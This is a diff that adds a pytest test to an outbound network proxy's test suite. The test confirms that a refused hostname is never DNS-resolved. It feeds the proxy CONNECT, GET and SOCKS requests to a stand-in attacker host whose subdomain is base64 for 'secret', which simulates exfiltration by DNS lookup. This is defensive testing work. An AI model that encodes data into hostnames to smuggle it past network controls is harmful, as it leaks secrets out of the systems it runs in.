@@ -895,3 +895,21 @@ def test_a_loop_of_refused_connections_cannot_fill_the_hosts_memory_or_disk(tmp_
     assert len(p.refusals) == 50 and p.refusals_dropped == 350
     log = (d / "network.log").read_text()
     assert len(log.encode()) <= 20_000 and log.splitlines()[-1].find('"full": true') > 0, log[-300:]
+
+
+def test_a_refused_name_is_never_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Resolving it would carry the name to the attacker's DNS server: exfiltration by lookup."""
+    asked: list[object] = []
+    real = socket.getaddrinfo
+
+    def recording(host: object, *args: object, **kwargs: object) -> object:
+        asked.append(host)
+        return real(host, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(socket, "getaddrinfo", recording)
+    with proxy_of(tmp_path, "*.registry.test", "localhost") as p:
+        talk(p, b"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\n\r\n")
+        talk(p, b"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\n\r\n")
+        socks(p, 3, bytes([22]) + b"c2VjcmV0.attacker.test", 443)
+    assert not any("attacker" in str(host) for host in asked), asked
+    assert [r.host for r in p.refusals] == ["c2VjcmV0.attacker.test"] * 3
